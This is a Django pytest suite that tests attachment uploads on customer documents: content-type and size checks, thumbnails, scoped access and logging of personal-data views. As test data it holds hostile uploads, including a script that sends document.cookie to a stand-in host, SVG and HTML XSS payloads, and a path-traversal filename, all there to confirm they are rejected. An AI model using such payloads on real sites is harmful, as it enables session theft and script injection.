"""Attachments on customer documents (R-CUS-6, R-SYS-2; ADR 0009/0010): checked by content and
size, thumbnails for photos, served only to users who see the parent, personal-data views logged."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from aftersales.core.attachments.models import Attachment
from aftersales.core.attachments.services import attach
from aftersales.core.exceptions import ServiceError
from aftersales.core.models import AuditEvent, PersonalDataAccess
from aftersales.customers.choices import DocumentKind
from aftersales.customers.models import CustomerDocument

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def document(make_customer, dealer_a):
    return CustomerDocument.objects.create(customer=make_customer(dealer_a), kind=DocumentKind.SERVICE_RECEIPT,
                                           title="身份证复印件", organisation=dealer_a)


def _jpeg(size=(1200, 900)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "blue").save(out, "JPEG")
    return out.getvalue()


def _files(media):
    return [p for p in media.rglob("*") if p.is_file()]


HOSTILE = {
    "html renamed .jpg": ("photo.jpg", b"<html><script src='/files/9/'></script></html>", "image/jpeg"),
    "javascript": ("evil.js", b"document.location='//x/?'+document.cookie", "application/javascript"),
    "svg with script": ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
                        "image/svg+xml"),
    "html named pdf": ("receipt.pdf", b"<!doctype html><p>hi", "application/pdf"),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_a_file_that_could_run_script_is_refused_and_nothing_is_saved(admin_user, document, media, case):
    name, content, ctype = HOSTILE[case]
    events = AuditEvent.objects.count()
    with pytest.raises(ServiceError) as exc:
        attach(actor=admin_user, parent=document, file=SimpleUploadedFile(name, content, ctype), kind="document")
    assert exc.value.code == "file_type_not_allowed" and exc.value.field == "file"
    assert "PDF" in str(exc.value.message)
    assert not Attachment.objects.exists() and not _files(media)
    assert AuditEvent.objects.count() == events


def test_a_file_over_the_size_limit_is_refused(admin_user, document, media, settings):
    settings.AFTERSALES_ATTACHMENT_MAX_BYTES = 1000
    with pytest.raises(ServiceError) as exc:
        attach(actor=admin_user, parent=document, file=SimpleUploadedFile("a.pdf", b"%PDF-1.4" + b"0" * 1000),
               kind="scan")
    assert exc.value.code == "file_too_large" and exc.value.field == "file"
    assert not Attachment.objects.exists() and not _files(media)


def test_a_photo_must_be_an_image_and_must_decode(admin_user, document, media):
    with pytest.raises(ServiceError) as exc:
        attach(actor=admin_user, parent=document, file=SimpleUploadedFile("a.pdf", b"%PDF-1.4 x"), kind="photo")
    assert exc.value.code == "file_type_not_allowed"
    with pytest.raises(ServiceError) as exc:
        attach(actor=admin_user, parent=document, file=SimpleUploadedFile("a.jpg", b"\xff\xd8\xff" + b"junk" * 50),
               kind="photo")
    assert exc.value.code == "image_unreadable"
    assert not Attachment.objects.exists() and not _files(media)


def test_a_photo_gets_a_thumbnail_a_random_name_and_an_audit_event(admin_user, document, media):
    a = attach(actor=admin_user, parent=document, file=SimpleUploadedFile("../../etc/车辆照片.jpeg", _jpeg()),
               kind="photo", title="左前门")
    assert a.mime_type == "image/jpeg" and a.download_name == "车辆照片.jpg"
    assert "车辆照片" not in a.file.name and a.file.name.endswith(".jpg") and a.file.name.startswith("attachments/")
    with Image.open(a.thumbnail.path) as thumb:
        assert max(thumb.size) == 320
    event = AuditEvent.objects.get(action="core.attachment.added")
    assert event.object_id == document.pk and event.customer_id == document.customer_id
    assert "左前门" in event.changes["attachment"][1]


def test_only_users_who_see_the_document_get_the_file_and_each_view_is_logged(
        admin_user, document, make_user, dealer_a, dealer_b, client):
    a = attach(actor=admin_user, parent=document, file=SimpleUploadedFile("id.jpg", _jpeg()), kind="scan")
    client.force_login(make_user("dealer", dealer_a))
    resp = client.get(f"/files/{a.pk}/")
    assert resp.status_code == 200 and resp["Content-Type"] == "image/jpeg"
    assert resp["Content-Disposition"].startswith("inline;")
    assert resp["X-Content-Type-Options"] == "nosniff" and "sandbox" in resp["Content-Security-Policy"]
    assert client.get(f"/files/{a.pk}/thumbnail/").status_code == 200
    assert client.get(f"/files/{a.pk}/?download=1")["Content-Disposition"].startswith("attachment;")
    log = PersonalDataAccess.objects.filter(customer_id=document.customer_id, action="view")
    assert log.count() == 3
    client.force_login(make_user("dealer", dealer_b))  # another store: not in scope
    assert client.get(f"/files/{a.pk}/").status_code == 404
    assert client.get(f"/files/{a.pk}/thumbnail/").status_code == 404
    client.force_login(make_user("technician", dealer_a))  # same store, but may not see documents
    assert client.get(f"/files/{a.pk}/").status_code == 404
    client.logout()
    assert client.get(f"/files/{a.pk}/").status_code == 302  # to the login page
    assert log.count() == 3


def test_an_office_file_is_always_a_download(admin_user, document, make_user, dealer_a, client):
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    a = attach(actor=admin_user, parent=document, file=SimpleUploadedFile("清单.xlsx", out.getvalue()),
               kind="document")
    client.force_login(make_user("dealer", dealer_a))
    resp = client.get(f"/files/{a.pk}/")
    assert resp["Content-Disposition"].startswith("attachment;") and not a.thumbnail


def test_uploading_html_as_a_scan_on_the_page_shows_the_error_and_saves_nothing(
        make_customer, make_user, dealer_a, client, media):
    customer = make_customer(dealer_a)
    client.force_login(make_user("dealer", dealer_a))
    evil = SimpleUploadedFile("scan.jpg", b"<html><script>alert(1)</script>", content_type="image/jpeg")
    resp = client.post("/customers/documents/new/", {"customer": customer.pk, "kind": "service_receipt",
                                                      "title": "结算单", "file": evil})
    assert resp.status_code == 400
    assert "不是允许的文件类型" in resp.content.decode()
    assert not CustomerDocument.objects.exists() and not Attachment.objects.exists() and not _files(media)


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "green").save(out, "PNG")
    return out.getvalue()


def test_any_record_takes_attachments_from_its_page(document, make_user, dealer_a, dealer_b, client, media):
    from django.contrib.contenttypes.models import ContentType

    url = f"/files/new/{ContentType.objects.get_for_model(document).pk}/{document.pk}/"
    client.force_login(make_user("dealer", dealer_a))
    page = client.get(document.get_absolute_url()).content.decode()
    assert 'data-testid="attachment-upload"' in page and url in page
    resp = client.post(url, {"kind": "photo", "title": "车损照片", "file": SimpleUploadedFile("p.png", _png())})
    assert resp.status_code == 302 and resp["Location"] == document.get_absolute_url()
    photo = Attachment.objects.get()
    assert photo.title == "车损照片" and photo.thumbnail
    assert f"/files/{photo.pk}/thumbnail/" in client.get(document.get_absolute_url()).content.decode()
    resp = client.post(url, {"kind": "photo", "file": SimpleUploadedFile("x.png", b"<script>alert(1)</script>")},
                       follow=True)
    assert "不是允许的文件类型" in resp.content.decode() and Attachment.objects.count() == 1
    client.force_login(make_user("dealer", dealer_b))
    assert client.post(url, {"kind": "photo", "file": SimpleUploadedFile("p.png", _png())}).status_code == 404
    client.force_login(make_user("technician", dealer_a))
    assert client.post(url, {"kind": "photo", "file": SimpleUploadedFile("p.png", _png())}).status_code == 404
    assert Attachment.objects.count() == 1
